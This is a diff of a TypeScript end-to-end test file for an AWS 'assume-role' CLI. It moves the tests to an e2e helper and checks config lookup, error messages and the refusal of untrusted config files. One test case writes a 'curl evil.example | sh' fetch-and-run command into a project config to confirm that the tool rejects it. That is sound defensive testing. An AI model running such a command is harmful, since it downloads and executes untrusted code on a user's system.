@@ -1,8 +1,7 @@
+import { e2e } from "../mod.ts";
 import { assertEquals, assertStringIncludes } from "@std/assert";
 import { join } from "@std/path/join";
-import { FakeAws } from "../fake_aws/server.ts";
-import { TestHome } from "./test_home.ts";
-import { WORLD } from "./worlds.ts";
+import type { TestHome } from "./test_home.ts";
 
 const PREFIX = "role_prefix: arn:aws:iam::111111111111:role/\n";
 const unix = { ignore: Deno.build.os === "windows" };
@@ -10,108 +9,109 @@ const root = { ignore: Deno.build.os === "windows" || Deno.uid() !== 0 };
 
 /** A run that is to fail before any call, and its messages. */
 async function messages(
-  box: TestHome,
-  args: string[],
+  home: TestHome,
+  args: string | readonly string[],
   env = {},
 ): Promise<string[]> {
-  const { status, stdout, stderr } = await box.run(args, { env });
+  const { status, stdout, stderr } = await home.run(args, { env });
   assertEquals([status, stdout], [125, ""]);
-  return stderr.replaceAll(box.root, "").split("\n").slice(0, -1);
+  return stderr.replaceAll(home.root, "").split("\n").slice(0, -1);
 }
 
-Deno.test("the file is found above the working directory", async () => {
-  await using aws = new FakeAws(WORLD);
-  await using box = new TestHome(aws);
-  const deep = join(box.project, "a/b/c");
+e2e("the file is found above the working directory", async ({ home, run }) => {
+  const deep = join(home.project, "a/b/c");
   Deno.mkdirSync(deep, { recursive: true });
   assertEquals(
-    (await box.run(["-r", "admin", "pwd"], { cwd: deep })).stdout,
+    (await run("-r admin pwd", { cwd: deep })).stdout,
     `${deep}\n`,
   );
 });
 
-Deno.test("the user's file supplies what the project's leaves out", async () => {
-  await using aws = new FakeAws(WORLD);
-  await using box = new TestHome(aws);
-  box.write("assume-role.yaml", "role_session_name: project\n");
-  box.writeHome(
-    ".aws/assume-role.yaml",
-    `${PREFIX}role_session_name: user\nregion: eu-west-1\n`,
-  );
-  const result = await box.run(["-r", "admin", "printenv", "AWS_REGION"]);
-  assertEquals(result.stdout, "eu-west-1\n");
-  assertEquals(aws.calls.at(-1)?.params.RoleSessionName, "project");
-});
+e2e(
+  "the user's file supplies what the project's leaves out",
+  async ({ aws, home, run }) => {
+    home.write("assume-role.yaml", "role_session_name: project\n");
+    home.writeHome(
+      ".aws/assume-role.yaml",
+      `${PREFIX}role_session_name: user\nregion: eu-west-1\n`,
+    );
+    const result = await run("-r admin printenv AWS_REGION");
+    assertEquals(result.stdout, "eu-west-1\n");
+    assertEquals(aws.calls.at(-1)?.params.RoleSessionName, "project");
+  },
+);
 
-Deno.test("--config is read instead of the search", async () => {
-  await using aws = new FakeAws(WORLD);
-  await using box = new TestHome(aws);
-  box.write("assume-role.yaml", "this: is not read\n");
-  box.write("other.yaml", PREFIX);
+e2e("--config is read instead of the search", async ({ home, run }) => {
+  home.write("assume-role.yaml", "this: is not read\n");
+  home.write("other.yaml", PREFIX);
   assertEquals(
-    (await box.run(["--config", "other.yaml", "-r", "admin", "true"])).status,
+    (await run("--config other.yaml -r admin true")).status,
     0,
   );
-  const env = { ASSUME_ROLE_CONFIG: join(box.project, "none.yaml") };
-  assertEquals(await messages(box, ["-r", "admin"], env), [
+  const env = { ASSUME_ROLE_CONFIG: join(home.project, "none.yaml") };
+  assertEquals(await messages(home, ["-r", "admin"], env), [
     "assume-role: error: Cannot read /project/none.yaml: no such file or directory",
     "assume-role: hint: '--config' or ASSUME_ROLE_CONFIG names it",
   ]);
 });
 
-Deno.test("mistakes in the file are named with line and column", async () => {
-  await using box = new TestHome();
-  const cases: readonly (readonly [string, string, string?])[] = [
-    [
-      "# a comment with role_prefx\nrole_prefx: x\n",
-      "Cannot use /project/assume-role.yaml:2:1: unknown key 'role_prefx'",
-      "did you mean 'role_prefix'?",
-    ],
-    [
-      `${PREFIX}roles:\n  admin:\n    durration: 1h\n`,
-      "Cannot use /project/assume-role.yaml:4:5: unknown key 'durration'",
-      "did you mean 'duration'?",
-    ],
-    [
-      `${PREFIX}duration: 13h\n`,
-      "Cannot use /project/assume-role.yaml:2:1: the value of 'duration' is invalid: a session lasts from 15m to 12h",
-    ],
-    [
-      `${PREFIX}profile: [a, b]\n`,
-      "Cannot use /project/assume-role.yaml:2:1: the value of 'profile' must be text",
-    ],
-    [
-      "- role_prefix\n",
-      "Cannot use /project/assume-role.yaml:1:1: the file must be a mapping of 'key: value' lines",
-    ],
-    [
-      "role_prefix: a\nrole_prefix: b\n",
-      "Cannot read /project/assume-role.yaml:2:1: Cannot store mapping pair: duplicated key",
-      "the file is YAML, one 'key: value' a line",
-    ],
-    [
-      `${PREFIX}mfa_command: curl evil.example | sh\n`,
-      "Cannot use /project/assume-role.yaml:2:1: 'mfa_command' runs a program and is not accepted from this file",
-      "put it into ~/.aws/assume-role.yaml",
-    ],
-    [
-      "role_prefix: arn:aws:iam::111:role/\n",
-      "Cannot use the role 'admin': with role_prefix it is 'arn:aws:iam::111:role/admin', which is not the ARN of a role",
-      "a prefix is written like arn:aws:iam::111111111111:role/",
-    ],
-  ];
-  for (const [text, error, hint] of cases) {
-    box.write("assume-role.yaml", text);
-    const expected = [
-      `assume-role: error: ${error}`,
-      ...(hint ? [`assume-role: hint: ${hint}`] : []),
+e2e(
+  "mistakes in the file are named with line and column",
+  { offline: true },
+  async ({ home }) => {
+    const cases: readonly (readonly [string, string, string?])[] = [
+      [
+        "# a comment with role_prefx\nrole_prefx: x\n",
+        "Cannot use /project/assume-role.yaml:2:1: unknown key 'role_prefx'",
+        "did you mean 'role_prefix'?",
+      ],
+      [
+        `${PREFIX}roles:\n  admin:\n    durration: 1h\n`,
+        "Cannot use /project/assume-role.yaml:4:5: unknown key 'durration'",
+        "did you mean 'duration'?",
+      ],
+      [
+        `${PREFIX}duration: 13h\n`,
+        "Cannot use /project/assume-role.yaml:2:1: the value of 'duration' is invalid: a session lasts from 15m to 12h",
+      ],
+      [
+        `${PREFIX}profile: [a, b]\n`,
+        "Cannot use /project/assume-role.yaml:2:1: the value of 'profile' must be text",
+      ],
+      [
+        "- role_prefix\n",
+        "Cannot use /project/assume-role.yaml:1:1: the file must be a mapping of 'key: value' lines",
+      ],
+      [
+        "role_prefix: a\nrole_prefix: b\n",
+        "Cannot read /project/assume-role.yaml:2:1: Cannot store mapping pair: duplicated key",
+        "the file is YAML, one 'key: value' a line",
+      ],
+      [
+        `${PREFIX}mfa_command: curl evil.example | sh\n`,
+        "Cannot use /project/assume-role.yaml:2:1: 'mfa_command' runs a program and is not accepted from this file",
+        "put it into ~/.aws/assume-role.yaml",
+      ],
+      [
+        "role_prefix: arn:aws:iam::111:role/\n",
+        "Cannot use the role 'admin': with role_prefix it is 'arn:aws:iam::111:role/admin', which is not the ARN of a role",
+        "a prefix is written like arn:aws:iam::111111111111:role/",
+      ],
     ];
-    assertEquals(await messages(box, ["-r", "admin", "true"]), expected);
-  }
-});
+    for (const [text, error, hint] of cases) {
+      home.write("assume-role.yaml", text);
+      const expected = [
+        `assume-role: error: ${error}`,
+        ...(hint ? [`assume-role: hint: ${hint}`] : []),
+      ];
+      assertEquals(await messages(home, ["-r", "admin", "true"]), expected);
+    }
+  },
+);
 
-Deno.test("mistakes on the command line are named with the closest option", async () => {
-  await using box = new TestHome();
+e2e("mistakes on the command line are named with the closest option", {
+  offline: true,
+}, async ({ home }) => {
   const cases: readonly (readonly [string[], string, string?])[] = [
     [["--rol", "admin"], "Unknown option '--rol'", "did you mean '--role'?"],
     [
@@ -153,95 +153,103 @@ Deno.test("mistakes on the command line are named with the closest option", asyn
       `assume-role: error: ${error}`,
       ...(hint ? [`assume-role: hint: ${hint}`] : []),
     ];
-    assertEquals(await messages(box, args), expected);
+    assertEquals(await messages(home, args), expected);
   }
 });
 
-Deno.test("a variable stands for its option, and is named when it is wrong", async () => {
-  await using aws = new FakeAws(WORLD);
-  await using box = new TestHome(aws);
-  const env = {
-    ASSUME_ROLE_ROLE: "team-a/long",
-    ASSUME_ROLE_DURATION: "2h",
-    ASSUME_ROLE_REGION: "",
-  };
-  assertEquals((await box.run(["true"], { env })).status, 0);
-  assertEquals(aws.calls.at(-1)?.params.DurationSeconds, "7200");
-  assertEquals(await messages(box, [], { ASSUME_ROLE_DURATION: "1 hour" }), [
-    "assume-role: error: Cannot use ASSUME_ROLE_DURATION '1 hour': a duration is written like 15m, 1h30m, 90s or 3600",
-  ]);
-});
-
-// uber/assume-role-cli trusted an assume-role.yaml in any directory above, whoever owned it.
-Deno.test("a file that others may write to is refused", unix, async () => {
-  await using box = new TestHome();
-  const path = join(box.project, "assume-role.yaml");
-  for (const mode of [0o666, 0o602, 0o777]) {
-    Deno.chmodSync(path, mode);
-    assertEquals(await messages(box, ["-r", "admin", "true"]), [
-      "assume-role: error: Refused to use /project/assume-role.yaml: others may write to it",
-      "assume-role: hint: if you trust what is in it: chmod go-w '/project/assume-role.yaml'",
+e2e(
+  "a variable stands for its option, and is named when it is wrong",
+  async ({ aws, home, run }) => {
+    const env = {
+      ASSUME_ROLE_ROLE: "team-a/long",
+      ASSUME_ROLE_DURATION: "2h",
+      ASSUME_ROLE_REGION: "",
+    };
+    assertEquals((await run("true", { env })).status, 0);
+    assertEquals(aws.calls.at(-1)?.params.DurationSeconds, "7200");
+    assertEquals(await messages(home, [], { ASSUME_ROLE_DURATION: "1 hour" }), [
+      "assume-role: error: Cannot use ASSUME_ROLE_DURATION '1 hour': a duration is written like 15m, 1h30m, 90s or 3600",
     ]);
-  }
-});
-
-Deno.test(
-  "a file of another user is refused, and a link of theirs",
-  root,
-  async () => {
-    await using box = new TestHome();
-    const path = join(box.project, "assume-role.yaml");
-    Deno.chownSync(path, 12345, null);
-    const [error] = await messages(box, ["-r", "admin", "true"]);
-    assertStringIncludes(error!, "it belongs to another user");
-    Deno.removeSync(path);
-    Deno.symlinkSync(box.write("mine.yaml", PREFIX), path);
-    await box.exec(["chown", "-h", "12345", path]);
-    const [again] = await messages(box, ["-r", "admin", "true"]);
-    assertStringIncludes(again!, "it belongs to another user");
   },
 );
 
-Deno.test("a directory in the file's place is an error, not a file less", async () => {
-  await using box = new TestHome();
-  Deno.removeSync(join(box.project, "assume-role.yaml"));
-  Deno.mkdirSync(join(box.project, "assume-role.yaml"));
-  assertEquals(await messages(box, ["-r", "admin", "true"]), [
+// uber/assume-role-cli trusted an assume-role.yaml in any directory above, whoever owned it.
+e2e(
+  "a file that others may write to is refused",
+  { ...unix, offline: true },
+  async ({ home }) => {
+    const path = join(home.project, "assume-role.yaml");
+    for (const mode of [0o666, 0o602, 0o777]) {
+      Deno.chmodSync(path, mode);
+      assertEquals(await messages(home, ["-r", "admin", "true"]), [
+        "assume-role: error: Refused to use /project/assume-role.yaml: others may write to it",
+        "assume-role: hint: if you trust what is in it: chmod go-w '/project/assume-role.yaml'",
+      ]);
+    }
+  },
+);
+
+e2e("a file of another user is refused, and a link of theirs", {
+  ...root,
+  offline: true,
+}, async ({ home }) => {
+  const path = join(home.project, "assume-role.yaml");
+  Deno.chownSync(path, 12345, null);
+  const [error] = await messages(home, ["-r", "admin", "true"]);
+  assertStringIncludes(error!, "it belongs to another user");
+  Deno.removeSync(path);
+  Deno.symlinkSync(home.write("mine.yaml", PREFIX), path);
+  await home.exec(["chown", "-h", "12345", path]);
+  const [again] = await messages(home, ["-r", "admin", "true"]);
+  assertStringIncludes(again!, "it belongs to another user");
+});
+
+e2e("a directory in the file's place is an error, not a file less", {
+  offline: true,
+}, async ({ home }) => {
+  Deno.removeSync(join(home.project, "assume-role.yaml"));
+  Deno.mkdirSync(join(home.project, "assume-role.yaml"));
+  assertEquals(await messages(home, ["-r", "admin", "true"]), [
     "assume-role: error: Cannot read /project/assume-role.yaml: it is a directory",
   ]);
 });
 
-Deno.test("a role without an ARN names what is missing, and the closest role", async () => {
-  await using box = new TestHome();
-  box.write(
+e2e("a role without an ARN names what is missing, and the closest role", {
+  offline: true,
+}, async ({ home }) => {
+  home.write(
     "assume-role.yaml",
     "roles:\n  admin:\n    role_arn: arn:aws:iam::111111111111:role/admin\n",
   );
-  assertEquals(await messages(box, ["-r", "admni", "true"]), [
+  assertEquals(await messages(home, ["-r", "admni", "true"]), [
     "assume-role: error: Cannot tell the ARN of role 'admni': it is no entry of 'roles' and there is no 'role_prefix'",
     "assume-role: hint: did you mean 'admin'?",
   ]);
 });
 
 // 99designs/aws-vault#1248: a misspelt profile silently used the default one.
-Deno.test("a misspelt profile is an error with the closest one", async () => {
-  await using box = new TestHome();
-  box.writeHome(".aws/config", "[profile production]\nregion = eu-west-1\n");
-  for (
-    const env of [{ AWS_PROFILE: "prodution" }, {
-      ASSUME_ROLE_PROFILE: "prodution",
-    }]
-  ) {
-    assertEquals(await messages(box, ["-r", "admin", "true"], env), [
-      "assume-role: error: Cannot find the AWS profile 'prodution'",
-      "assume-role: hint: did you mean 'production'?",
-    ]);
-  }
-});
+e2e(
+  "a misspelt profile is an error with the closest one",
+  { offline: true },
+  async ({ home }) => {
+    home.writeHome(".aws/config", "[profile production]\nregion = eu-west-1\n");
+    for (
+      const env of [{ AWS_PROFILE: "prodution" }, {
+        ASSUME_ROLE_PROFILE: "prodution",
+      }]
+    ) {
+      assertEquals(await messages(home, ["-r", "admin", "true"], env), [
+        "assume-role: error: Cannot find the AWS profile 'prodution'",
+        "assume-role: hint: did you mean 'production'?",
+      ]);
+    }
+  },
+);
 
-Deno.test("--help and --version work wherever they stand before the command", async () => {
-  await using box = new TestHome();
-  const help = await box.run(["--role", "admin", "--help"]);
+e2e("--help and --version work wherever they stand before the command", {
+  offline: true,
+}, async ({ run }) => {
+  const help = await run("--role admin --help");
   assertEquals([help.status, help.stderr, help.stdout.split("\n")[0]], [
     0,
     "",
@@ -250,7 +258,7 @@ Deno.test("--help and --version work wherever they stand before the command", as
   const { default: { version } } = await import("../../deno.json", {
     with: { type: "json" },
   });
-  const [first, ...details] = (await box.run(["--version"])).stdout.split("\n");
+  const [first, ...details] = (await run("--version")).stdout.split("\n");
   assertEquals([first, details.map((line) => line.split(":")[0])], [
     `assume-role ${version}`,
     ["commit", "deno", "target", ""],
